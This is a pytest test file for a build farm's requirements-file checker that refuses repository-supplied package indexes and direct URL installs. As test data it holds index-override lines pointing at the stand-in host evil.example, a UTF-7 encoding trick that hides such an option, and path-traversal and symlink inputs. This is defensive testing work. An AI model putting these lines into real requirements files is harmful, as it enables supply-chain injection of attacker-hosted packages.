"""``workers/package_index.py``: a repository cannot replace the farm's package index."""

from __future__ import annotations

import codecs
from pathlib import Path

import pytest

from common.errors import BuildFailure
from workers.config_files import cap_for
from workers.package_index import check_requirements_file, logical_lines, sources_replaced


def check(tmp_path: Path, text: str, name: str = "requirements.txt",
          others: dict[str, str] | None = None) -> None:
    for other, content in (others or {}).items():
        (tmp_path / other).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / other).write_text(content)
    (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
    (tmp_path / name).write_text(text)
    check_requirements_file(tmp_path, name)


@pytest.mark.parametrize(("text", "line"), [
    ("numpy\n--index-url https://evil.example/simple\n", 2),
    ("--index-url=https://evil.example/simple\n", 1),
    ("-i https://evil.example/simple\n", 1),
    ("-ihttps://evil.example/simple\n", 1),
    ("--extra-index-url https://evil.example/simple\nnumpy\n", 1),
    ("--trusted-host evil.example\n", 1),
    ("-f https://evil.example/links/\n", 1),
    ("--find-links=http://evil.example/links/\n", 1),
    ("--pypi-url https://evil.example/simple\n", 1),  # pip's alias of --index-url
    ("--index-u https://evil.example/simple\n", 1),  # abbreviations are options too
    ("--extra-ind=https://evil.example/simple\n", 1),
    ("--trust evil.example\n", 1),
    ("numpy \\\n  --index-url https://evil.example/simple\n", 1),  # a continued line
    ("-\\\ni https://evil.example/simple\n", 1),  # continuations join without a space
    ("numpy==1.0 --index-url https://evil.example/simple\n", 1),
    ("-r https://evil.example/reqs.txt\n", 1),
    ("--constraint=http://evil.example/c.txt\n", 1),
    # uv reads URLs as browsers do: slashes after a web scheme are optional
    ("-f https:evil.example/links/\n", 1),
    ("--find-links=HTTP:\\\\evil.example/links/\n", 1),
    ("-r https:evil.example/reqs.txt\n", 1),
])
def test_index_options_are_refused_naming_the_line(tmp_path: Path, text: str,
                                                   line: int) -> None:
    with pytest.raises(BuildFailure) as caught:
        check(tmp_path, text)
    assert caught.value.message.startswith(f"requirements.txt line {line} (`")
    assert "this farm" in caught.value.message
    assert caught.value.suggestions


@pytest.mark.parametrize("text", [
    "numpy==1.26\npandas>=2 ; python_version > '3.8'\n",
    "# --index-url https://evil.example/simple in a comment\nnumpy\n",
    "numpy # -i https://evil.example in a trailing comment\n",
    "--no-index\n-f ./wheels\nmypkg\n",
    "--find-links wheels/\nmypkg\n",
    "-e .\n--pre\n--prefer-binary\n",
    "-r other.txt\n",
    "pkg @ file:///home/jovyan/wheels/pkg-1.0-py3-none-any.whl\n",
    "./wheels/pkg-1.0-py3-none-any.whl\n",
    "pkg==1.0 --hash=sha256:" + "a" * 64 + "\n",
    "pkg @ file:/home/jovyan/wheels/pkg-1.0-py3-none-any.whl\n",
])
def test_ordinary_requirements_pass(tmp_path: Path, text: str) -> None:
    check(tmp_path, text, others={"other.txt": "requests\n"})


@pytest.mark.parametrize(("text", "line"), [
    ("numpy\ngit+https://example.org/pkg.git#egg=pkg\n", 2),
    ("pkg @ https://files.example/pkg-1.0-py3-none-any.whl\n", 1),
    ("pkg@https://files.example/pkg-1.0-py3-none-any.whl\n", 1),
    ("https://files.example/pkg-1.0-py3-none-any.whl\n", 1),
    ("-e git+ssh://git@example.org/pkg.git#egg=pkg\n", 1),
    ("x\\\n  @ http://files.example/x.whl\n", 1),
    # uv reads URLs as browsers do: slashes after a web scheme are optional
    ("pkg @ https:files.example/pkg-1.0-py3-none-any.whl\n", 1),
    ("pkg@HTTPS:/files.example/pkg-1.0-py3-none-any.whl\n", 1),
    ("https:files.example/pkg-1.0-py3-none-any.whl\n", 1),
    ("pkg @ git+https:example.org/pkg.git\n", 1),
    ("pkg @ https:\\\\files.example/pkg-1.0-py3-none-any.whl\n", 1),
    ("pkg @ ftp:files.example/pkg-1.0.tar.gz\n", 1),
])
def test_direct_references_are_refused_naming_the_line(tmp_path: Path, text: str,
                                                       line: int) -> None:
    with pytest.raises(BuildFailure) as caught:
        check(tmp_path, text)
    assert caught.value.message.startswith(f"requirements.txt line {line} (`")
    assert "installs a package from a URL" in caught.value.message
    assert "commit its wheel" in caught.value.suggestions[0]


EVIL_INDEX = "--extra-index-url https://evil.example/simple\n"
#: EVIL_INDEX in UTF-7 with each dash written as base64 (``+AC0-``), as a decoder reads it
EVIL_INDEX_UTF7 = b"+AC0-+AC0-extra+AC0-index+AC0-url https://evil.example/simple\n"


@pytest.mark.parametrize("encoded", [
    # Windows PowerShell's `pip freeze > requirements.txt` writes UTF-16 with a BOM
    ("numpy\r\n" + EVIL_INDEX).encode("utf-16"),
    codecs.BOM_UTF16_BE + ("numpy\n" + EVIL_INDEX).encode("utf-16-be"),
    codecs.BOM_UTF8 + EVIL_INDEX.encode(),
    ("numpy\n" + EVIL_INDEX).encode("utf-32"),
    # pip decodes a file by a coding declaration in its first two lines (PEP 263)
    b"# -*- coding: utf-7 -*-\n" + EVIL_INDEX_UTF7,
    b"numpy\n# vim: set fileencoding=utf-7 :\n" + EVIL_INDEX_UTF7,
])
def test_index_options_are_refused_in_every_encoding_an_installer_reads(
        tmp_path: Path, encoded: bytes) -> None:
    """pip and uv decode a requirements file by its byte-order mark (pip also by a coding
    declaration): the farm reads it as they do, or an index option would pass unseen."""
    (tmp_path / "requirements.txt").write_bytes(encoded)
    with pytest.raises(BuildFailure, match=r"^requirements.txt line \d+ \(`--extra-index-url"):
        check_requirements_file(tmp_path, "requirements.txt")


def test_a_utf16_requirements_file_without_index_options_passes(tmp_path: Path) -> None:
    (tmp_path / "requirements.txt").write_bytes("numpy==1.26\r\npandas\r\n".encode("utf-16"))
    check_requirements_file(tmp_path, "requirements.txt")


def test_files_pulled_in_are_read_the_same_way(tmp_path: Path) -> None:
    with pytest.raises(BuildFailure, match=r"^reqs/more.txt line 2 \(`--index-url"):
        check(tmp_path, "-r reqs/base.txt\n", others={
            "reqs/base.txt": "numpy\n-c more.txt\n",
            "reqs/more.txt": "x\n--index-url https://evil.example/simple\n"})


def test_a_file_outside_the_repository_is_refused(tmp_path: Path) -> None:
    checkout = tmp_path / "checkout"
    (tmp_path / "outside.txt").write_text("numpy\n")
    with pytest.raises(BuildFailure, match="outside the repository"):
        check(checkout, "-r ../outside.txt\n")


def test_a_file_of_the_clones_git_folder_is_refused(tmp_path: Path) -> None:
    """.git never enters a build, and its lines are not the repository's to quote."""
    (tmp_path / ".git").mkdir()
    (tmp_path / ".git" / "config").write_text("[remote]\nurl = https://example/x\n")
    with pytest.raises(BuildFailure, match="^config is referred to with -r or -c but lies "
                                           "outside the repository"):
        check(tmp_path, "-r .git/config\n")


def test_files_pulled_in_through_a_link_are_read_where_the_installer_reads_them(
        tmp_path: Path) -> None:
    # pip and uv join a nested -r to the folder of the file as named, not of a link's target
    (tmp_path / "deps").mkdir()
    (tmp_path / "deps" / "reqs.txt").write_text("-r other.txt\n")
    (tmp_path / "deps" / "other.txt").write_text("numpy\n")
    (tmp_path / "other.txt").write_text("--extra-index-url https://evil.example/simple\n")
    (tmp_path / "requirements.txt").symlink_to("deps/reqs.txt")
    with pytest.raises(BuildFailure, match=r"^other.txt line 1 \(`--extra-index-url"):
        check_requirements_file(tmp_path, "requirements.txt")


def test_dot_dot_after_a_link_is_read_both_ways(tmp_path: Path) -> None:
    # pip normalises `sub/..` away before the system follows `sub`; the system goes to
    # the parent of sub's target: either file may be the one installed from
    (tmp_path / "deps" / "inner").mkdir(parents=True)
    (tmp_path / "sub").symlink_to("deps/inner")
    (tmp_path / "deps" / "other.txt").write_text("numpy\n")
    (tmp_path / "other.txt").write_text("numpy\n")
    check(tmp_path, "-r sub/../other.txt\n")
    for evil in (tmp_path / "other.txt", tmp_path / "deps" / "other.txt"):
        evil.write_text("--extra-index-url https://evil.example/simple\n")
        with pytest.raises(BuildFailure, match="names a package index"):
            check(tmp_path, "-r sub/../other.txt\n")
        evil.write_text("numpy\n")


def test_a_file_pulled_in_through_a_link_loop_is_refused(tmp_path: Path) -> None:
    (tmp_path / "loop.txt").symlink_to("loop.txt")
    with pytest.raises(BuildFailure, match=r"^loop.txt is referred to with -r or -c"):
        check(tmp_path, "-r loop.txt\n")


def test_a_file_pulled_in_over_the_config_cap_is_refused_unread(tmp_path: Path) -> None:
    # past the cap, after a comment line, an index option that would be refused if read
    cap = cap_for("reqs/big.txt")
    big = "# " + "x" * cap.max_bytes + "\n--index-url https://evil.example/simple\n"
    with pytest.raises(BuildFailure) as caught:
        check(tmp_path, "numpy\n-r reqs/big.txt\n", others={"reqs/big.txt": big})
    assert caught.value.message == (f"reqs/big.txt is {len(big)} bytes; this farm reads config "
                                    f"files of at most {cap.max_bytes} bytes (1.0 MiB).")
    assert caught.value.suggestions == [cap.advice.format(name="reqs/big.txt")]


def test_requirement_files_that_include_each_other_end(tmp_path: Path) -> None:
    check(tmp_path, "-r a.txt\n", others={"a.txt": "-r b.txt\n", "b.txt": "-r a.txt\n"})


def test_long_lines_are_shortened_in_the_message(tmp_path: Path) -> None:
    with pytest.raises(BuildFailure) as caught:
        check(tmp_path, "--index-url https://evil.example/" + "x" * 10_000 + "\n")
    assert len(caught.value.message) < 300


def test_logical_lines_follow_pip() -> None:
    text = "a \\\n  b\n# comment\n  \nc # tail\n# not joined \\\nd\n"
    assert logical_lines(text) == [(1, "a   b"), (5, "c"), (7, "d")]


@pytest.mark.timeout(10)
def test_a_megabyte_of_blanks_in_a_line_is_read_in_linear_time() -> None:
    # pip's comment pattern backtracks over every blank for every blank: hours of a worker
    blanks = " " * (1024 * 1024)
    assert logical_lines(f"numpy{blanks}x\nscipy{blanks}# note\n") == [
        (1, f"numpy{blanks}x"), (2, "scipy")]


@pytest.mark.timeout(10)
@pytest.mark.parametrize("word", ["x" * (1024 * 1024 - 64), '"' + "x" * (1024 * 1024 - 64) + '"',
                                  "\\x" * (512 * 1024 - 64)])
def test_a_megabyte_long_word_is_checked_in_linear_time(tmp_path: Path, word: str) -> None:
    # shlex builds a word one character at a time: 15 s of a worker per MiB, per file
    check(tmp_path, f"numpy\n{word}\n")


def test_comments_are_removed_as_pip_removes_them() -> None:
    assert logical_lines("# all\na#b\nc \t# d # e\n\u00a0# nbsp\nf\u3000#x\n#\n") == [
        (2, "a#b"), (3, "c"), (5, "f")]


def test_sources_replaced_sentence() -> None:
    assert sources_replaced("Pipfile", [], ["https://index.example/simple"]) is None
    assert sources_replaced("environment.yml", ["conda-forge", "https://evil.example/ch"],
                            ["https://conda.example/farm"]) == (
        "environment.yml names its own package sources (conda-forge, "
        "https://evil.example/ch); this farm uses its configured sources instead: "
        "https://conda.example/farm.")
